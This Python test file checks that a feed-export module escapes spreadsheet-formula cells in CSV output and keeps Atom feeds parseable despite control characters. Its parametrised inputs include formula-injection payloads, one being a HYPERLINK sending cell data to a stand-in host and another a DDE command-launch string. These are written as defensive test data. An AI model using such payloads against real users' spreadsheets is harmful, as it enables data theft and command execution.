"""What a partner opens in a spreadsheet or a feed reader runs no formula and always parses."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ElementTree

import pytest

from projections.feed_formats import feed_atom, feed_csv


def _item(title: str) -> dict[str, object]:
    return {
        "id": "decision-1",
        "cursor": "ZjE",
        "kind": "decision",
        "at": "2027-01-15T02:00:00Z",
        "process": {"id": "p1", "title": title, "region": {"code": "33.01", "name": "Desa Sukamaju"}},
        "proposal": {"id": "q1", "title": title},
        "decision": {"outcome": "adopted", "method": "consensus", "rationale": title},
        "rules": {"quorum": -0.5},
        "history": "/api/v1/proposals/q1/history",
    }


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"],
)
def test_a_cell_that_a_spreadsheet_would_run_begins_with_a_quote(typed: str) -> None:
    rows = list(csv.DictReader(io.StringIO(feed_csv([_item(typed)]))))

    assert rows[0]["process_title"] == "'" + typed
    assert rows[0]["proposal_title"] == "'" + typed


def test_numbers_and_plain_text_are_left_as_they_are() -> None:
    rows = list(csv.DictReader(io.StringIO(feed_csv([_item("Posyandu Dusun Krajan")]))))

    assert (rows[0]["process_title"], rows[0]["quorum"]) == ("Posyandu Dusun Krajan", "-0.5")


def test_a_title_stored_with_control_characters_still_gives_a_feed_that_parses() -> None:
    atom = feed_atom([_item("Musdes\x01\x1b[2J\x00 Sukamaju")], "http://x/feed.atom", "http://x", None)

    root = ElementTree.fromstring(atom)
    titles = [element.text for element in root.iter("{http://www.w3.org/2005/Atom}title")]
    assert "Musdes\ufffd\ufffd[2J\ufffd Sukamaju" in " ".join(str(title) for title in titles)
